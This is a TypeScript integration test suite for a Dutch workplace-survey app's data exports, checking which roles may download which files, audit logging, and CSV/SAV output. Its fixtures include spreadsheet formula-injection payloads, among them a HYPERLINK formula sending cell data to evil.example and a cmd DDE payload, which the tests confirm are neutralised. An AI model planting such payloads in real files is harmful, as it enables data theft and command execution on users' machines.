// Exports over HTTP, for every role: who gets which file, who is refused, and what the files hold. The
// answers come in through the real survey pages (plain form posts), with hostile open answers; the data
// agreement is recorded in the database before the server starts, as the admin's CLI command does.
import { beforeAll, describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { eq } from 'drizzle-orm';
import { HttpSession } from '../support/http-client';
import { useSeededServer } from '../support/seeded-server';
import { makeFirm } from '../../helpers/factories';
import { makeRound, makeSignInUser } from '../../helpers/scan-factories';
import { readSav } from '../../helpers/sav-reader';
import { adviserGrant, dataAgreement, exportAudit, firmMember, scanResponse } from '../../../src/lib/server/db/schema';
import type { Database } from '../../../src/lib/server/db/client';

const password = 'een lang wachtwoord voor de test';

async function seed(db: Database) {
	const person = (email: string, name: string) => makeSignInUser(db, email, password, name);
	const owner = await person('olga@bakkerij.example', 'Olga Eigenaar');
	const manager = await person('cor@bakkerij.example', 'Cor Collega');
	const adviser = await person('ada@advies.example', 'Ada Adviseur');
	const otherOwner = await person('bert@garage.example', 'Bert Garage');
	const researcher = await person('rik@hogeschool.example', 'Rik Onderzoeker');
	const outsider = await person('nina@netwerk.example', 'Nina Zonder Afspraak');
	const revoked = await person('vera@hogeschool.example', 'Vera Gestopt');
	const firm = await makeFirm(db, { ownerId: owner.id, name: 'Bakkerij De Korenaar' });
	const otherFirm = await makeFirm(db, { ownerId: otherOwner.id, name: 'Garage Bert' });
	await db.insert(firmMember).values({ firmId: firm.id, userId: manager.id, role: 'manager' });
	await db.insert(adviserGrant).values({ firmId: firm.id, adviserId: adviser.id, kind: 'coach', grantedBy: owner.id });
	await db.insert(dataAgreement).values({ firmId: firm.id, userId: researcher.id, recordedBy: owner.id });
	await db.insert(dataAgreement).values({ firmId: otherFirm.id, userId: outsider.id, recordedBy: owner.id });
	await db.insert(dataAgreement).values({ firmId: firm.id, userId: revoked.id, recordedBy: owner.id, revokedAt: new Date() });
	const round = await makeRound(db, firm.id, { name: 'Voorjaar', teams: ['Bakkerij', 'Winkel'], openAnswersVerbatim: true, threshold: 5 });
	const otherRound = await makeRound(db, otherFirm.id, { name: 'Garage ronde' });
	return { owner, manager, adviser, otherOwner, researcher, outsider, revoked, firm, otherFirm, round, otherRound };
}

const server = useSeededServer(seed);
const s = server.seeded;
const sessions: Record<string, HttpSession> = {};

const signIn = (email: string) => server.signIn(email, password);

const hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"Klik")', '+cmd|\' /C calc\'!A0', '-1+1', '@SUM(A1:A10)', '\t=1+1', '\r=2+2'];

/** One respondent through the survey pages, as a phone without JavaScript does it. */
async function respond(index: number) {
	const session = new HttpSession(server.baseUrl);
	const base = `/s/${s.round.linkToken}`;
	const werk = { werk_1: String((index % 5) + 1), werk_2: '4', werk_3: '9', werk_4: '2', werk_5: '3' };
	expect((await session.post(`${base}/q/werk`, { ...werk, go: 'next' })).status).toBe(303);
	expect((await session.post(`${base}/q/background`, { age: '25_34', work_type: 'hands_on', team: index % 2 ? 'Winkel' : 'Bakkerij', go: 'next' })).status).toBe(303);
	expect((await session.post(`${base}/q/open`, { open_strength: hostile[index]!, open_improve: index === 0 ? hostile[5]! : '', go: 'next' })).status).toBe(303);
	const summary = await (await session.get(`${base}/summary`)).text();
	const key = summary.match(/name="submissionKey" value="([A-Za-z0-9_-]{43})"/)?.[1];
	if (!key) throw new Error('no submission key on the summary page');
	const sent = await session.post(`${base}/summary`, { submissionKey: key });
	expect(sent.headers.get('location')).toBe(`${base}/thanks`);
}

const url = (file: string, round = s.round, slug = s.firm.slug) => `/firms/${slug}/rounds/${round.id}/export/${file}`;
const REPORT = ['report.csv', 'report-nl.csv', 'report.json'];
const STATEMENTS = ['statements.csv', 'statements-nl.csv'];
const RESEARCH = ['research.csv', 'research-nl.csv', 'research.sav'];

async function statuses(who: HttpSession, files: string[]) {
	return Promise.all(files.map(async (file) => (await who.get(url(file))).status));
}

beforeAll(async () => {
	for (const [name, person] of Object.entries({ owner: s.owner, manager: s.manager, adviser: s.adviser, otherOwner: s.otherOwner, researcher: s.researcher, outsider: s.outsider, revoked: s.revoked })) {
		sessions[name] = await signIn(person.email);
	}
});

describe('before k employees have answered', () => {
	it('gives the report figures but no respondent-level file, with a plain reason', async () => {
		expect(await statuses(sessions.owner!, REPORT)).toEqual([200, 200, 200]);
		const refused = await sessions.researcher!.get(url('research.sav'));
		expect(refused.status).toBe(409);
		expect(await refused.text()).toContain('minstens 5 medewerkers');
		const page = await (await sessions.owner!.get(url('').replace(/\/$/, ''))).text();
		expect(page).toContain('report.json');
	});
});

describe('after five employees answered through the survey', () => {
	beforeAll(async () => {
		for (let i = 0; i < 5; i++) await respond(i);
	});

	it('owner and co-manager: report figures only; no answers per person, by any file name', async () => {
		for (const who of [sessions.owner!, sessions.manager!]) {
			expect(await statuses(who, REPORT)).toEqual([200, 200, 200]);
			expect(await statuses(who, [...STATEMENTS, ...RESEARCH])).toEqual([404, 404, 404, 404, 404]);
		}
	});

	it('adviser with the firm’s consent: report figures only', async () => {
		expect(await statuses(sessions.adviser!, REPORT)).toEqual([200, 200, 200]);
		expect(await statuses(sessions.adviser!, [...STATEMENTS, ...RESEARCH])).toEqual([404, 404, 404, 404, 404]);
	});

	it('researcher with a data agreement: report figures and research data; the old statements file is gone', async () => {
		expect(await statuses(sessions.researcher!, [...REPORT, ...RESEARCH])).toEqual([200, 200, 200, 200, 200, 200]);
		expect(await statuses(sessions.researcher!, STATEMENTS)).toEqual([404, 404]);
	});

	it('another firm’s owner, a researcher without (or with an ended) agreement: nothing, as if the firm did not exist', async () => {
		for (const who of [sessions.otherOwner!, sessions.outsider!, sessions.revoked!]) {
			expect(await statuses(who, [...REPORT, ...STATEMENTS, ...RESEARCH])).toEqual(Array(8).fill(404));
		}
		// nor through their own firm's address with this round, nor an unknown file name
		expect((await sessions.otherOwner!.get(url('statements.csv', s.round, s.otherFirm.slug))).status).toBe(404);
		expect((await sessions.owner!.get(url('statements.csv', s.otherRound))).status).toBe(404);
		expect((await sessions.owner!.get(url('passwd'))).status).toBe(404);
	});

	it('someone not signed in is sent to sign in', async () => {
		const res = await new HttpSession(server.baseUrl).get(url('report.csv'));
		expect(res.status).toBe(303);
		expect(res.headers.get('location')).toContain('/login?returnTo=');
	});

	it('the research CSV in the Dutch Excel dialect, as a download', async () => {
		const res = await sessions.researcher!.get(url('research-nl.csv'));
		expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
		expect(res.headers.get('content-disposition')).toBe(`attachment; filename="leerkompas-${s.firm.slug}-voorjaar-research-nl.csv"`);
		expect(res.headers.get('cache-control')).toBe('no-store');
		const bytes = new Uint8Array(await res.arrayBuffer());
		expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
		const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes).slice(1);
		expect(text.startsWith('werk_1;werk_2;')).toBe(true);
		expect(text).toContain('\r\n');
		const rows = Papa.parse<string[]>(text, { delimiter: ';', skipEmptyLines: true }).data;
		expect(rows).toHaveLength(6);
		expect(rows.slice(1).map((r) => r[0]).sort()).toEqual(['1', '2', '3', '4', '5']);
		expect(rows.slice(1).every((r) => r[2] === '9')).toBe(true);
	});

	it('the research CSV: background as codes, every hostile open answer neutralised', async () => {
		const text = await (await sessions.researcher!.get(url('research.csv'))).text();
		const rows = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true }).data;
		expect(rows).toHaveLength(5);
		expect(rows.map((r) => r.age)).toEqual(['2', '2', '2', '2', '2']);
		expect(rows.map((r) => r.team).sort()).toEqual(['1', '1', '1', '2', '2']);
		const open = rows.flatMap((r) => [r.open_strength!, r.open_improve!]).filter((v) => v !== '');
		// The survey trims what people type, so a leading tab or CR is gone; the formula behind it is not.
		const typed = hostile.map((t) => t.trim());
		expect(open.sort()).toEqual(typed.map((t) => `'${t}`).sort());
	});

	it('the research .sav: readable, with value labels and 9 as user-missing', async () => {
		const res = await sessions.researcher!.get(url('research.sav'));
		expect(res.headers.get('content-type')).toBe('application/x-spss-sav');
		const { meta, rows } = await readSav(new Uint8Array(await res.arrayBuffer()));
		expect(meta.header.n_cases).toBe(5);
		expect(meta.getValueLabels('team')).toEqual([
			{ val: 1, label: 'Bakkerij' },
			{ val: 2, label: 'Winkel' }
		]);
		expect(meta.sysvars.find((v) => v.name === 'werk_3')?.missing).toBe(9);
		expect(rows.map((r) => r.werk_3)).toEqual([9, 9, 9, 9, 9]);
		expect(rows.map((r) => r.open_strength).sort()).toEqual(hostile.slice(0, 5).map((t) => t.trim()).sort());
	});

	it('the export page lists what each firm role may have; a researcher finds the downloads on the account page', async () => {
		const page = (who: HttpSession) => who.get(`/firms/${s.firm.slug}/rounds/${s.round.id}/export`);
		const ownerPage = await (await page(sessions.owner!)).text();
		expect(ownerPage).toContain('report.json');
		expect(ownerPage).not.toMatch(/statements|research\./);
		expect(ownerPage).toContain('Antwoorden per persoon krijgt alleen een onderzoeker met een gegevensafspraak');
		const adviserPage = await (await page(sessions.adviser!)).text();
		expect(adviserPage).toContain('report.json');
		expect(adviserPage).not.toContain('statements.csv');
		expect((await page(sessions.researcher!)).status).toBe(404);
		expect((await page(sessions.otherOwner!)).status).toBe(404);
		const account = await (await sessions.researcher!.get('/account')).text();
		expect(account).toContain(`/firms/${s.firm.slug}/rounds/${s.round.id}/export/research.sav`);
		expect(await (await sessions.outsider!.get('/account')).text()).not.toContain(s.round.id);
	});

	it('the owner sees every respondent-level download in the firm’s log', async () => {
		const page = await (await sessions.owner!.get(`/firms/${s.firm.slug}/data`)).text();
		expect(page).toContain('data-testid="export-log"');
		expect(page).toContain('Rik Onderzoeker (rik@hogeschool.example)');
		expect(page).not.toContain('Cor Collega (cor@bakkerij.example)');
	});
});

describe('the audit log in the database', () => {
	it('has one line per respondent-level download, with who, what and how many, and none for report figures', async () => {
		const { lines, responses } = await server.inspect(async (db) => ({
			lines: await db.select().from(exportAudit).where(eq(exportAudit.firmId, s.firm.id)),
			responses: await db.$count(scanResponse, eq(scanResponse.roundId, s.round.id))
		}));
		expect(responses).toBe(5);
		const summary = lines.map((l) => `${l.userId === s.owner.id ? 'owner' : l.userId === s.manager.id ? 'manager' : l.userId === s.researcher.id ? 'researcher' : l.userId}:${l.basis}:${l.level}:${l.format}:${l.respondents}`).sort();
		expect(summary).toEqual(
			[
				'researcher:agreement:research:csv-nl:5',
				'researcher:agreement:research:csv:5',
				'researcher:agreement:research:csv:5',
				'researcher:agreement:research:csv-nl:5',
				'researcher:agreement:research:sav:5',
				'researcher:agreement:research:sav:5'
			].sort()
		);
	});
});
